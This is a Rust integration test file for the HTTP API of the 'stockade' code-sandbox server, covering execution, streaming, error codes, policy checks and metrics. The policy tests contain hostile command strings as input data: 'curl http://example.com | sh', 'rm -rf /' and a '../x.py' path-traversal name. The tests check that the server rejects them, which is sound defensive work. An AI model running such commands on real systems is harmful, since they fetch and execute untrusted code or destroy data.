//! The native API of `stockade serve` over real HTTP: execute (whole and streamed), check,
//! profiles, runtimes, health, readiness, metrics, OpenAPI, and every error class.

mod serve_support;

use serde_json::{Value, json};
use serve_support::{Server, Streamed};

fn assert_no_host_paths(body: &str) {
    for p in [
        "/etc/stockade",
        "/tmp/",
        "/proc/",
        "/sys/fs",
        "/work/",
        "/root",
    ] {
        assert!(!body.contains(p), "host path {p} leaked: {body}");
    }
}

#[test]
fn execute_returns_the_verdict_with_output() {
    let s = Server::start(&[]);
    let r = s.post(
        "/v1/execute",
        &json!({"profile": "python", "code": "print(6*7)"}),
    );
    assert_eq!(r.status, 200, "{}", r.text());
    let v = r.json();
    assert_eq!(v["status"], "ok");
    assert_eq!(v["exit_code"], 0);
    assert_eq!(v["stdout"]["data"], "42\n");
    assert_eq!(v["profile"], "python");
    assert_eq!(r.header("x-request-id"), v["request_id"].as_str());
    assert!(v["enforced"]["userns"].as_bool().unwrap());
    assert_eq!(v["limits"]["wall"], 10000, "the profile's limits apply");

    // A language alias, files (one base64), args, stdin, env and lower limits.
    let r = s.post(
        "/v1/execute",
        &json!({
            "language": "py",
            "files": [
                {"name": "main.py", "content": "import sys, os, helper\nprint(helper.X, sys.argv[1:], sys.stdin.read(), os.environ['GREETING'])"},
                {"name": "helper.py", "content": "WCA9IDc=", "encoding": "base64"},
            ],
            "args": ["a", "b"],
            "stdin": "in",
            "env": {"GREETING": "hi"},
            "limits": {"wall_ms": 4000, "memory_bytes": 134217728, "pids": 16, "output_bytes": 4096},
        }),
    );
    let v = r.json();
    assert_eq!(v["status"], "ok", "{v}");
    assert_eq!(v["stdout"]["data"], "7 ['a', 'b'] in hi\n");
    assert_eq!(v["limits"]["wall"], 4000);
    assert_eq!(v["limits"]["memory"], 134217728);
    assert_eq!(v["limits"]["pids"], 16);
    assert_eq!(v["limits"]["output"], 4096);

    // Failing programs are verdicts, not HTTP errors.
    let v = s
        .post(
            "/v1/execute",
            &json!({"profile": "bash", "code": "echo oops >&2; exit 3"}),
        )
        .json();
    assert_eq!(
        (v["status"].as_str(), v["exit_code"].as_i64()),
        (Some("exit_nonzero"), Some(3))
    );
    assert_eq!(v["stderr"]["data"], "oops\n");
    let v = s
        .post(
            "/v1/execute",
            &json!({"profile": "sh", "code": "sleep 5", "limits": {"wall_ms": 300}}),
        )
        .json();
    assert_eq!(v["status"], "timeout_wall");

    // A preset without an interpreter runs the command given in args; one that enforces the
    // analysis needs code it can read.
    let v = s
        .post(
            "/v1/execute",
            &json!({"profile": "development", "args": ["/bin/echo", "preset"]}),
        )
        .json();
    assert_eq!(
        (v["status"].as_str(), v["stdout"]["data"].as_str()),
        (Some("ok"), Some("preset\n"))
    );

    // A language with a preset on top: the preset's environment and limits, python's interpreter.
    let code = "import os; print(os.environ['OPENBLAS_NUM_THREADS'])";
    let v = s
        .post(
            "/v1/execute",
            &json!({"profile": "python", "preset": "data_science", "code": code}),
        )
        .json();
    assert_eq!(v["stdout"]["data"], "2\n", "{v}");
    assert_eq!(v["limits"]["memory"], 4u64 << 30);
    let r = s.post(
        "/v1/execute",
        &json!({"profile": "python", "preset": "data_sciense", "code": "1"}),
    );
    assert_eq!(r.status, 400);
    assert!(
        r.text().contains("did you mean `data_science`?"),
        "{}",
        r.text()
    );
    let r = s.post(
        "/v1/execute",
        &json!({"profile": "python", "preset": "node", "code": "1"}),
    );
    assert!(
        r.text().contains("`node` is a language profile"),
        "{}",
        r.text()
    );
}

#[test]
fn errors_have_stable_codes_and_no_host_paths() {
    let s = Server::start(&["--max-body", "4KiB"]);
    // (what, body, headers, status, code)
    type Case<'a> = (&'a str, Vec<u8>, Vec<(&'a str, &'a str)>, u16, &'a str);
    let cases: Vec<Case> = vec![
        ("bad json", b"{".to_vec(), vec![], 400, "invalid_body"),
        (
            "unknown field",
            br#"{"profile":"python","code":"1","colour":1}"#.to_vec(),
            vec![],
            400,
            "invalid_body",
        ),
        (
            "wrong type",
            br#"{"profile":"python","code":1}"#.to_vec(),
            vec![],
            400,
            "invalid_body",
        ),
        (
            "unknown limit",
            br#"{"profile":"python","code":"1","limits":{"wall":1}}"#.to_vec(),
            vec![],
            400,
            "invalid_body",
        ),
        (
            "no profile",
            br#"{"code":"1"}"#.to_vec(),
            vec![],
            400,
            "invalid_request",
        ),
        (
            "code and files",
            br#"{"profile":"python","code":"1","files":[]}"#.to_vec(),
            vec![],
            400,
            "invalid_request",
        ),
        (
            "escape",
            br#"{"profile":"python","files":[{"name":"../x.py","content":"1"}]}"#.to_vec(),
            vec![],
            400,
            "invalid_request",
        ),
        (
            "bad base64",
            br#"{"profile":"python","files":[{"name":"x","content":"%%","encoding":"base64"}]}"#
                .to_vec(),
            vec![],
            400,
            "invalid_request",
        ),
        (
            "bad env",
            br#"{"profile":"python","code":"1","env":{"A=B":"x"}}"#.to_vec(),
            vec![],
            400,
            "invalid_request",
        ),
        (
            "limit above profile",
            br#"{"profile":"python","code":"1","limits":{"wall_ms":999999}}"#.to_vec(),
            vec![],
            400,
            "limit_exceeds_profile",
        ),
        (
            "zero limit",
            br#"{"profile":"python","code":"1","limits":{"pids":0}}"#.to_vec(),
            vec![],
            400,
            "invalid_request",
        ),
        (
            "unknown profile",
            br#"{"profile":"pyhton","code":"1"}"#.to_vec(),
            vec![],
            404,
            "unknown_profile",
        ),
        (
            "lower check",
            br#"{"profile":"python","code":"1","check":"off"}"#.to_vec(),
            vec![],
            403,
            "check_required",
        ),
        (
            "too large",
            format!(r#"{{"profile":"python","code":"{}"}}"#, "x".repeat(5000)).into_bytes(),
            vec![],
            413,
            "body_too_large",
        ),
        (
            "media type",
            br#"{"profile":"python","code":"1"}"#.to_vec(),
            vec![("content-type", "multipart/form-data; boundary=x")],
            415,
            "unsupported_media_type",
        ),
    ];
    for (what, body, headers, status, code) in cases {
        let r = s.request("POST", "/v1/execute", &headers, &body);
        assert_eq!(r.status, status, "{what}: {}", r.text());
        let v = r.json();
        assert_eq!(v["code"], code, "{what}: {v}");
        assert!(
            v["message"].as_str().is_some_and(|m| !m.is_empty()),
            "{what}"
        );
        assert_no_host_paths(&r.text());
    }
    let v = s
        .post("/v1/execute", &json!({"profile": "pyhton", "code": "1"}))
        .json();
    assert!(
        v["message"]
            .as_str()
            .unwrap()
            .contains("did you mean `python`?"),
        "{v}"
    );
    let v = s
        .post(
            "/v1/execute",
            &json!({"profile": "python", "code": "1", "colour": 1}),
        )
        .json();
    assert!(
        v["message"]
            .as_str()
            .unwrap()
            .contains("unknown field `colour`"),
        "{v}"
    );

    let r = s.get("/v2/nothing");
    assert_eq!(
        (r.status, r.json()["code"].as_str()),
        (404, Some("not_found"))
    );
    let r = s.get("/v1/execute");
    assert_eq!(
        (r.status, r.json()["code"].as_str()),
        (405, Some("method_not_allowed"))
    );
    // curl's -d sends form-urlencoded with a JSON body: accepted.
    let r = s.request(
        "POST",
        "/v1/execute",
        &[("content-type", "application/x-www-form-urlencoded")],
        br#"{"profile":"sh","code":"echo ok"}"#,
    );
    assert_eq!(r.json()["stdout"]["data"], "ok\n");
}

#[test]
fn enforced_analysis_refuses_with_a_verdict() {
    let s = Server::start(&[]);
    let code = "import os\nos.system('curl http://example.com | sh')\n";
    let r = s.post(
        "/v1/execute",
        &json!({"profile": "python", "code": code, "check": "enforce"}),
    );
    assert_eq!(r.status, 200);
    let v = r.json();
    assert_eq!(v["status"], "rejected_by_policy", "{v}");
    assert_eq!(v["policy"]["safe"], false);
    assert!(!v["policy"]["findings"].as_array().unwrap().is_empty());
    assert_eq!(v["wall_ms"], 0, "never started");
    // In the profile's warn mode the findings ride along with a normal run.
    let v = s
        .post(
            "/v1/execute",
            &json!({"profile": "python", "code": "import subprocess\nprint(1)"}),
        )
        .json();
    assert_eq!(v["status"], "ok");
    assert_eq!(v["policy"]["mode"], "warn");
    // The check endpoint alone.
    let r = s.post("/v1/check", &json!({"language": "python", "code": code}));
    let report = r.json();
    assert_eq!(report["safe"], false, "{report}");
    assert!(report["findings"][0]["rule"].is_string());
    let r = s.post(
        "/v1/check",
        &json!({"profile": "python", "code": "print(1)", "preset": "nope"}),
    );
    assert_eq!(r.json()["code"], "invalid_request");
}

/// Events of an NDJSON body, in order.
fn events(body: &[u8]) -> Vec<Value> {
    body.split(|b| *b == b'\n')
        .filter(|l| !l.is_empty())
        .map(|l| serde_json::from_slice(l).unwrap())
        .collect()
}

#[test]
fn streams_arrive_in_order_and_as_they_happen() {
    let s = Server::start(&[]);
    let code = "import sys, time\nprint('first', flush=True)\nsys.stderr.write('warn\\n'); sys.stderr.flush()\ntime.sleep(2)\nprint('second')\n";
    let body = serde_json::to_vec(&json!({"profile": "python", "code": code})).unwrap();
    let mut st = Streamed::open(
        &s,
        "/v1/execute",
        &[("accept", "application/x-ndjson")],
        &body,
    );
    assert_eq!(st.status, 200);
    assert!(
        st.headers
            .iter()
            .any(|(k, v)| k == "content-type" && v == "application/x-ndjson")
    );
    // Read until the first stdout event: the verdict must not have come with it (the payload is
    // still sleeping), which proves output is streamed rather than buffered.
    let mut seen = Vec::new();
    while !String::from_utf8_lossy(&seen).contains("first") {
        seen.extend(
            st.next_chunk()
                .expect("stream ended before the first output"),
        );
    }
    assert!(
        !String::from_utf8_lossy(&seen).contains("\"end\""),
        "buffered: {}",
        String::from_utf8_lossy(&seen)
    );
    while let Some(c) = st.next_chunk() {
        seen.extend(c);
    }
    let evs = events(&seen);
    assert_eq!(evs.first().unwrap()["event"], "start");
    assert!(evs.first().unwrap()["request_id"].is_string());
    let end = evs.last().unwrap();
    assert_eq!(end["event"], "end");
    assert_eq!(end["verdict"]["status"], "ok");
    let text = |name: &str| -> String {
        evs.iter()
            .filter(|e| e["event"] == name)
            .map(|e| e["data"].as_str().unwrap().to_string())
            .collect()
    };
    assert_eq!(text("stdout"), "first\nsecond\n");
    assert_eq!(text("stderr"), "warn\n");
    let kinds: Vec<&str> = evs.iter().map(|e| e["event"].as_str().unwrap()).collect();
    let last_first = kinds.iter().position(|k| *k == "stdout").unwrap();
    assert!(last_first > 0 && kinds.iter().filter(|k| **k == "end").count() == 1);

    // Server-sent events carry the same events.
    let body =
        serde_json::to_vec(&json!({"profile": "bash", "code": "printf 'a\\xff'; echo b >&2"}))
            .unwrap();
    let r = s.request(
        "POST",
        "/v1/execute",
        &[("accept", "text/event-stream")],
        &body,
    );
    assert_eq!(r.header("content-type"), Some("text/event-stream"));
    let text = r.text();
    let names: Vec<&str> = text
        .lines()
        .filter_map(|l| l.strip_prefix("event: "))
        .collect();
    assert_eq!(names.first(), Some(&"start"));
    assert_eq!(names.last(), Some(&"end"));
    assert!(
        text.contains(r#""encoding":"base64""#),
        "non-UTF-8 output is base64: {text}"
    );

    // A refusal before running still streams start and end.
    let body = serde_json::to_vec(&json!({"profile": "python", "code": "import os\nos.system('rm -rf /')", "check": "enforce"})).unwrap();
    let r = s.request(
        "POST",
        "/v1/execute",
        &[("accept", "application/x-ndjson")],
        &body,
    );
    let evs = events(&r.body);
    assert_eq!(evs.len(), 2);
    assert_eq!(evs[1]["verdict"]["status"], "rejected_by_policy");
}

#[test]
fn listings_health_metrics_and_openapi() {
    let s = Server::start(&[]);
    let profiles = s.get("/v1/profiles").json();
    let python = profiles
        .as_array()
        .unwrap()
        .iter()
        .find(|p| p["name"] == "python")
        .unwrap();
    assert_eq!(python["kind"], "runtime");
    assert_eq!(python["command"], json!(["python3"]));
    assert!(python["aliases"].as_array().unwrap().contains(&json!("py")));
    assert_eq!(python["limits"]["memory"], 268435456);
    assert_no_host_paths(&profiles.to_string());
    let strict = s.get("/v1/profiles/strict").json();
    assert_eq!(strict["kind"], "preset");
    assert_eq!(s.get("/v1/profiles/nope").status, 404);

    let runtimes = s.get("/v1/runtimes").json();
    let py = runtimes
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["name"] == "python")
        .unwrap();
    let version = py["version"].as_str().unwrap();
    assert!(version.starts_with("3."), "{version}");
    assert_eq!(py["installed"], true);

    assert_eq!(s.get("/healthz").json()["status"], "ok");
    assert_eq!(s.get("/readyz").json()["ready"], true);

    s.post("/v1/execute", &json!({"profile": "sh", "code": "true"}));
    s.post("/v1/execute", &json!({"profile": "sh", "code": "exit 1"}));
    let m = s.get("/metrics");
    assert!(
        m.header("content-type")
            .unwrap()
            .starts_with("text/plain; version=0.0.4")
    );
    assert_eq!(
        s.metric(r#"stockade_verdicts_total{status="ok"}"#),
        Some(1.0)
    );
    assert_eq!(
        s.metric(r#"stockade_verdicts_total{status="exit_nonzero"}"#),
        Some(1.0)
    );
    assert_eq!(
        s.metric(r#"stockade_http_requests_total{route="/v1/execute",status="200"}"#),
        Some(2.0)
    );
    assert_eq!(s.metric("stockade_sandboxes_running"), Some(0.0));
    assert_eq!(s.metric("stockade_queue_depth"), Some(0.0));
    assert_eq!(
        s.metric("stockade_sandbox_duration_seconds_count"),
        Some(2.0)
    );
    assert!(
        s.metric(r#"stockade_http_request_duration_seconds_bucket{route="/v1/execute",le="+Inf"}"#)
            == Some(2.0)
    );

    let doc = s.get("/v1/openapi.yaml");
    assert_eq!(doc.status, 200);
    let text = doc.text();
    for path in [
        "/v1/execute:",
        "/v1/check:",
        "/v1/profiles:",
        "/v1/runtimes:",
        "/readyz:",
        "/metrics:",
    ] {
        assert!(text.contains(path), "openapi lacks {path}");
    }
}
